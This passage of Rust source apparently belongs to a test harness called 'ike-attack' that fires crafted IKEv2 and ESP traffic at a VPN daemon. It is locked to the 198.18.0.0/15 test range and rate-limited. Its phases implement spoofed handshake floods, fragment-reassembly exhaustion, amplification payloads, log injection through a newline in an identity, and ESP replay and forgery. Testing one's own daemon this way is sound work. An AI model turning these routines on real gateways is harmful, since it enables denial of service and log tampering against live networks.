        seed: 1,
        pps: 5000,
        max_secs: 30,
        live: None,
        range_base: Ipv4Addr::new(198, 18, 64, 0),
        range_size: 4096,
        phases: Vec::new(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(k) = it.next() {
        let mut val = || it.next().ok_or(format!("{k} needs a value"));
        match k.as_str() {
            "--target" => a.target = val()?.parse().map_err(|e| format!("--target: {e}"))?,
            "--peer" => a.peer = val()?.parse().map_err(|e| format!("--peer: {e}"))?,
            "--seed" => a.seed = val()?.parse().map_err(|e| format!("--seed: {e}"))?,
            "--pps" => a.pps = val()?.parse().map_err(|e| format!("--pps: {e}"))?,
            "--max-secs" => a.max_secs = val()?.parse().map_err(|e| format!("--max-secs: {e}"))?,
            "--range-base" => {
                a.range_base = val()?.parse().map_err(|e| format!("--range-base: {e}"))?
            }
            "--range-size" => {
                a.range_size = val()?.parse().map_err(|e| format!("--range-size: {e}"))?
            }
            "--live-spis" => {
                let v = val()?;
                let (i, r) = v.split_once(':').ok_or("--live-spis SPII:SPIR")?;
                let h =
                    |s: &str| u64::from_str_radix(s, 16).map_err(|e| format!("--live-spis: {e}"));
                a.live = Some((h(i)?, h(r)?));
            }
            p if !p.starts_with("--") => a.phases.push(p.to_owned()),
            other => return Err(format!("unknown option {other}")),
        }
    }
    if a.target.is_unspecified() || a.peer.is_unspecified() {
        return Err("--target and --peer are required".into());
    }
    // Only the test range (198.18.0.0/15), as everything the tests send.
    for ip in [a.target, a.peer, a.range_base] {
        let o = ip.octets();
        if !(o[0] == 198 && (o[1] & 0xfe) == 18) {
            return Err(format!("{ip} is outside 198.18.0.0/15"));
        }
    }
    let last = u32::from(a.range_base).saturating_add(a.range_size);
    if last > u32::from(Ipv4Addr::new(198, 19, 255, 255)) || a.range_size == 0 {
        return Err("the range must stay inside 198.18.0.0/15".into());
    }
    if a.max_secs > 300 || a.pps > 100_000 {
        return Err("bounded: --max-secs at most 300, --pps at most 100000".into());
    }
    Ok(a)
}

fn count_of(phase: &str) -> Result<u64, String> {
    phase
        .split_once(':')
        .map(|(_, n)| n.parse::<u64>().map_err(|e| format!("{phase}: {e}")))
        .transpose()
        .map(|n| n.unwrap_or(0).min(1_000_000))
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("ike-attack: {e}");
            return ExitCode::from(2);
        }
    };
    match run(&args) {
        Ok(summary) => {
            println!("{summary}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("ike-attack: {e}");
            ExitCode::FAILURE
        }
    }
}

fn run(a: &Args) -> Result<String, String> {
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))
        .map_err(|e| format!("raw socket (root needed): {e}"))?;
    let sniffer = Socket::new(
        Domain::PACKET,
        Type::DGRAM,
        Some(Protocol::from(0x0800u16.to_be() as i32)),
    )
    .map_err(|e| format!("packet socket: {e}"))?;
    sniffer
        .set_read_timeout(Some(Duration::from_millis(50)))
        .map_err(|e| e.to_string())?;
    let _ = sniffer.set_recv_buffer_size(8 << 20);
    let seen = Arc::new(Mutex::new(Seen::default()));
    let stop = Arc::new(AtomicBool::new(false));
    let sniffer_thread = {
        let (seen, stop, target, peer) = (seen.clone(), stop.clone(), a.target, a.peer);
        thread::spawn(move || sniff(sniffer, target, peer, seen, stop))
    };
    let started = Instant::now();
    let mut tx = Sender {
        sock: raw,
        seen: seen.clone(),
        pps: a.pps,
        sent: 0,
        started,
        deadline: started + Duration::from_secs(a.max_secs),
        ident: a.seed as u16,
    };
    let mut rng = Rng(a.seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let range_addr = |i: u64| {
        Ipv4Addr::from(u32::from(a.range_base) + 1 + (i % u64::from(a.range_size - 1)) as u32)
    };
    let mut sent: BTreeMap<String, u64> = BTreeMap::new();
    // What each of our IKE_SA_INIT requests from the peer's address was, to answer its COOKIE demand.
    let mut inits: HashMap<u64, (u8, Vec<u8>)> = HashMap::new();
    let (t, p) = (a.target, a.peer);
    for phase in &a.phases {
        let name = phase.split(':').next().unwrap_or("").to_owned();
        let n = count_of(phase)?;
        let mut count = 0u64;
        match name.as_str() {
            "malformed" => {
                let chains = malformed_chains(&mut rng);
                let spi = rng.next();
                let msgs = malformed_messages(&mut rng, spi);
                for (i, (_, first, body)) in chains.iter().enumerate() {
                    let spi = rng.next();
                    let init = message((spi, 0), IKE_SA_INIT, FLAG_INITIATOR, 0, *first, body);
                    for natt in [false, true] {
                        count += u64::from(tx.ike(p, t, natt, &init));
                        count += u64::from(tx.ike(range_addr(i as u64), t, natt, &init));
                        if let Some(live) = a.live {
                            for (exch, flags, id) in
                                [(INFORMATIONAL, FLAG_INITIATOR, 0x1000), (IKE_AUTH, 0, 1)]
                            {
                                let m = message(live, exch, flags, id, *first, body);
                                count += u64::from(tx.ike(p, t, natt, &m));
                            }
                        }
                    }
                }
                for (i, (_, m)) in msgs.iter().enumerate() {
                    for natt in [false, true] {
                        count += u64::from(tx.ike(p, t, natt, m));
                        count += u64::from(tx.ike(range_addr(i as u64), t, natt, m));
                    }
                }
            }
            "amplify" | "jumbo" => {
                let per = if name == "jumbo" {
                    (65_507 - 28) / 8
                } else {
                    176
                };
                let mut body = Vec::with_capacity(per * 8);
                for k in 0..per {
                    body.extend(payload(
                        if k + 1 == per { 0 } else { DELETE },
                        &[1, 0, 0xff, 0xff],
                        None,
                    ));
                }
                for _ in 0..n {
                    let init = message(
                        (rng.next(), 0),
                        IKE_SA_INIT,
                        FLAG_INITIATOR,
                        0,
                        DELETE,
                        &body,
                    );
                    count += u64::from(tx.ike(p, t, false, &init));
                    if let Some(live) = a.live {
                        let m = message(live, INFORMATIONAL, FLAG_INITIATOR, 0x1000, DELETE, &body);
                        count += u64::from(tx.ike(p, t, false, &m));
                    }
                }
            }
            "bad-ke" => {
                for _ in 0..n {
                    let (first, body) = bad_modp_chain(&mut rng);
                    let m = message(
                        (rng.next(), 0),
                        IKE_SA_INIT,
                        FLAG_INITIATOR,
                        0,
                        first,
                        &body,
                    );
                    if !tx.ike(p, t, false, &m) {
                        break;
                    }
                    count += 1;
                }
            }
            "init" | "init-answer" | "spoof-init" | "proposals" => {
                let n = if name == "spoof-init" { 1 } else { n };
                let answer = name == "init-answer" || name == "proposals";
                for _ in 0..n {
                    let spi = rng.next();
                    let (first, body) = if name == "proposals" {
                        proposals_chain(&mut rng)
                    } else {
                        init_chain(&mut rng, None)
                    };
                    let m = message((spi, 0), IKE_SA_INIT, FLAG_INITIATOR, 0, first, &body);
                    if answer {
                        inits.insert(spi, (first, body));
                    }
                    if !tx.ike(p, t, false, &m) {
                        break;
                    }
                    count += 1;
                    if answer {
                        count += answer_cookies(&mut tx, &seen, &inits, p, t);
                    }
                }
                if answer {
                    // The last answers arrive after the last request.
                    thread::sleep(Duration::from_millis(300));
                    count += answer_cookies(&mut tx, &seen, &inits, p, t);
                }
            }
            "range" => {
                for i in 0..n {
                    let (first, body) = init_chain(&mut rng, None);
                    let m = message(
                        (rng.next(), 0),
                        IKE_SA_INIT,
                        FLAG_INITIATOR,
                        0,
                        first,
                        &body,
                    );
                    if !tx.ike(range_addr(i), t, false, &m) {
                        break;
                    }
                    count += 1;
                }
            }
            "fragments" => {
                thread::sleep(Duration::from_millis(200));
                let mut sas: Vec<(u64, u64)> = seen
                    .lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .half_open
                    .clone();
                sas.extend(a.live);
                'outer: for k in 0..n {
                    for &(si, sr) in &sas {
                        // Fragment k+1 of 65535, never the last; an unauthenticated ICV (we have no keys).
                        let num = (k % 65_534 + 1) as u16;
                        let mut body = num.to_be_bytes().to_vec();
                        body.extend_from_slice(&65_535u16.to_be_bytes());
                        body.extend(rng.bytes(1_000));
                        let m = message(
                            (si, sr),
                            IKE_AUTH,
                            FLAG_INITIATOR,
                            1,
                            SKF,
                            &payload(IDI, &body, None),
                        );
                        if !tx.ike(p, t, true, &m) {
                            break 'outer;
                        }
                        count += 1;
                    }
                }
            }
            "id-inject" => {
                let (tx_feed, rx) = mpsc::channel();
                seen.lock().unwrap_or_else(|e| e.into_inner()).feed = Some(tx_feed);
                let mut refused = 0;
                for _ in 0..n {
                    if !tx.ok() {
                        break;
                    }
                    // An FQDN identity with a newline, a fake log line, and 1,400 more bytes.
                    let mut data = format!("attacker.example\n{INJECTED}\n").into_bytes();
                    data.extend(std::iter::repeat_n(b'A', 1_400));
                    let id = ike::message::Id {
                        id_type: ike::message::IdType::FQDN,
                        data,
                    };
                    let r = real_initiator(&mut tx, &rx, (p, t), Some(id), 1280, false);
                    count += r.sent;
                    refused += u64::from(r.refused);
                }
                seen.lock().unwrap_or_else(|e| e.into_inner()).feed = None;
                sent.insert("id-inject-answered".into(), refused);
            }
            "auth-fragments" => {
                let (tx_feed, rx) = mpsc::channel();
                seen.lock().unwrap_or_else(|e| e.into_inner()).feed = Some(tx_feed);
                let mut withheld = 0;
                for _ in 0..n {
                    if !tx.ok() {
                        break;
                    }
                    // Small fragments (12 bytes of the encrypted payload each): about 20 per IKE_AUTH request.
                    let r = real_initiator(&mut tx, &rx, (p, t), None, 104, true);
                    count += r.sent;
                    withheld += r.withheld;
                }
                seen.lock().unwrap_or_else(|e| e.into_inner()).feed = None;
                sent.insert("auth-fragments-withheld".into(), withheld);
            }
            "garbage" => {
                for i in 0..n {
                    let len = rng.below(1_400);
                    let mut d = rng.bytes(len);
                    let src = if i % 2 == 0 { p } else { range_addr(i) };
                    let (sport, dport) = match i % 4 {
                        0 | 1 => (500, 500),
                        2 => (4500, 4500),
                        _ => {
                            // Behind a non-ESP marker, or a NAT keepalive, or a short ESP header.
                            match rng.below(3) {
                                0 => d.splice(0..0, [0, 0, 0, 0]).for_each(drop),
                                1 => d = vec![0xff],
                                _ => d.truncate(rng.below(8)),
                            }
                            (4500, 4500)
                        }
                    };
                    if !tx.udp(src, sport, t, dport, &d) {
                        break;
                    }
                    count += 1;
                }
            }
            "esp-unknown" => {
                for i in 0..n {
                    let len = 60 + rng.below(1_300);
                    let mut d = rng.bytes(len);
                    if d[..4] == [0, 0, 0, 0] {
                        d[0] = 1;
                    }
                    let src = if i % 2 == 0 { p } else { range_addr(i) };
                    let ok = if i % 3 == 0 {
                        tx.ip(src, t, 50, &d)
                    } else {
                        tx.udp(src, 4500, t, 4500, &d)
                    };
                    if !ok {
                        break;
                    }
                    count += 1;
                }
            }
            "esp-replay" => {
                seen.lock().unwrap_or_else(|e| e.into_inner()).capture_esp = true;
                thread::sleep(Duration::from_secs(n.min(60)));
                let captured = {
                    let mut s = seen.lock().unwrap_or_else(|e| e.into_inner());
                    s.capture_esp = false;
                    std::mem::take(&mut s.esp)
                };
                sent.insert("esp-captured".into(), captured.len() as u64);
                let mut forged = 0;
                'replay: for pkt in &captured {
                    for _ in 0..3 {
                        if !tx.udp(p, 4500, t, 4500, pkt) {
                            break 'replay;
                        }
                        count += 1;
                    }
                    // Forged: one byte flipped after the SPI (sequence number, IV, ciphertext or ICV).
                    for _ in 0..3 {
                        let mut f = pkt.clone();
                        let at = 4 + rng.below(f.len() - 4);
                        f[at] ^= 1 << rng.below(8);
                        if !tx.udp(p, 4500, t, 4500, &f) {
                            break 'replay;
                        }
                        forged += 1;
                    }
                }
                sent.insert("esp-forged".into(), forged);
            }
            other => return Err(format!("unknown phase {other:?}")),
        }
        *sent.entry(name).or_default() += count;
    }
    // Let the last answers arrive.
    thread::sleep(Duration::from_millis(300));
    stop.store(true, Ordering::Relaxed);
    let _ = sniffer_thread.join();
    let s = seen.lock().unwrap_or_else(|e| e.into_inner());
    let notify: Vec<String> = s
        .notify
        .iter()
        .map(|(k, v)| format!("\"{k}\":{v}"))
        .collect();
    let sent: Vec<String> = sent.iter().map(|(k, v)| format!("\"{k}\":{v}")).collect();
    Ok(format!(
        "{{\"sent\":{{{}}},\"cookie\":{},\"answer\":{},\"notify\":{{{}}},\"other\":{},\"secs\":{:.2},\"packets\":{}}}",
        sent.join(","),
        s.cookie,
        s.answer,
        notify.join(","),
        s.other,
        started.elapsed().as_secs_f64(),
        tx.sent
    ))
}

/// The fake log line the `id-inject` phase hides in its identity, after a newline.
const INJECTED: &str = "2026-01-01T00:00:00.000000Z  INFO vmsecd::daemon: IKE SA established peer=hB INJECTED-BY-ATTACKER";

/// What one real initiator got done.
#[derive(Default)]
struct Initiator {
    /// Datagrams sent.
    sent: u64,
    /// IKE_AUTH fragments withheld (the last of each set).
    withheld: u64,
    /// Whether it got as far as IKE_AUTH and its SA then ended (the target answered its IKE_AUTH: refused).
    refused: bool,
}

/// One real IKE initiator (the `ike` crate's, with the peer's address and a PSK it does not know). It completes
/// IKE_SA_INIT (answering a COOKIE demand if one comes), then sends its IKE_AUTH request: with `withhold_last`,
/// every fragment but the last (so they carry valid ICVs and reach the target's reassembly, then wait there
/// forever); otherwise all of it, claiming identity `id`. Gives up after 3 s.
fn real_initiator(
    tx: &mut Sender,
    rx: &mpsc::Receiver<(u16, u16, Vec<u8>)>,
    (p, t): (Ipv4Addr, Ipv4Addr),
    id: Option<ike::message::Id>,
    fragment_size: u16,
    withhold_last: bool,
) -> Initiator {
    use ike::config::{id_from_addr, AuthMethod, Lifetimes, PeerConfig, Retransmit};
    use ike::message::TrafficSelector;
    use ike::proposal::ProposalSpec;
    use ike::sa::State;
    let mut done = Initiator::default();
    let (Ok(ike_p), Ok(esp_p)) = (
        ProposalSpec::ike("aes128gcm16-prfsha256-x25519"),
        ProposalSpec::esp("aes128gcm16"),
    ) else {
        return done;
    };
    let cfg = PeerConfig {
        name: "attacker".into(),
        local_addr: p.into(),
        remote_addr: t.into(),
        remote_port: 500,
        local_id: id.unwrap_or_else(|| id_from_addr(p.into())),
        remote_id: id_from_addr(t.into()),
        auth: AuthMethod::Psk(zeroize::Zeroizing::new(
            b"not-the-mesh-psk-0123456789".to_vec(),
        )),
        ike_proposals: vec![ike_p],
        esp_proposals: vec![esp_p],
        local_ts: vec![TrafficSelector::from_prefix(
            Ipv4Addr::new(198, 19, 2, 0).into(),
            24,
        )],
        remote_ts: vec![TrafficSelector::from_prefix(
            Ipv4Addr::new(198, 19, 1, 0).into(),
            24,
        )],
        force_encap: true,
        udp_with_vmsecd: false,
        retransmit: Retransmit::default(),
        lifetimes: Lifetimes::default(),
        replay_window: 64,
        fragment_size,
    };
    let mut sa = ike::sa::IkeSa::initiate(Arc::new(cfg), Instant::now());
    let spi = sa.local_spi();
    while rx.try_recv().is_ok() {}
    let mut auth_sent = false;
    let until = Instant::now() + Duration::from_secs(3);
    while Instant::now() < until && done.withheld == 0 {
        while let Some(x) = sa.poll_transmit() {
            let marker = if x.local_port == 4500 { 4 } else { 0 };
            let m = x.data.get(marker..).unwrap_or(&[]);
            // An SKF payload right after the header: fragment number and total follow its generic header.
            if withhold_last && m.len() > 36 && m[16] == SKF && m[32..34] == m[34..36] {
                done.withheld += 1;
                continue;
            }
            if tx.udp(p, x.local_port, t, x.remote.port(), &x.data) {
                done.sent += 1;
            }
        }
        auth_sent |= sa.state() == State::AuthSent;
        if auth_sent && sa.state() == State::Closed {
            done.refused = true;
            break;
        }
        if let Ok((sport, dport, m)) = rx.recv_timeout(Duration::from_millis(100)) {
            if m.len() >= 8 && u64::from_be_bytes(m[..8].try_into().unwrap_or_default()) == spi {
                let from = std::net::SocketAddr::from((t, sport));
                sa.handle(Instant::now(), &m, from, dport);
            }
        }
    }
    done
}

/// Sends each pending COOKIE demand's request again with the cookie in front (RFC 7296 2.6), from the peer's
/// address; returns how many it sent.
fn answer_cookies(
    tx: &mut Sender,
    seen: &Arc<Mutex<Seen>>,
    inits: &HashMap<u64, (u8, Vec<u8>)>,
    p: Ipv4Addr,
    t: Ipv4Addr,
) -> u64 {
    let pending = std::mem::take(&mut seen.lock().unwrap_or_else(|e| e.into_inner()).cookies);
    let mut n = 0;
    for (spi, cookie) in pending {
        let Some((first, body)) = inits.get(&spi) else {
            continue;
        };
        let mut ps = payload(*first, &notify_body(0, &[], COOKIE, &cookie), None);
        ps.extend_from_slice(body);
        let m = message((spi, 0), IKE_SA_INIT, FLAG_INITIATOR, 0, NOTIFY, &ps);
        if tx.ike(p, t, false, &m) {
            n += 1;
        }
    }
    n
}
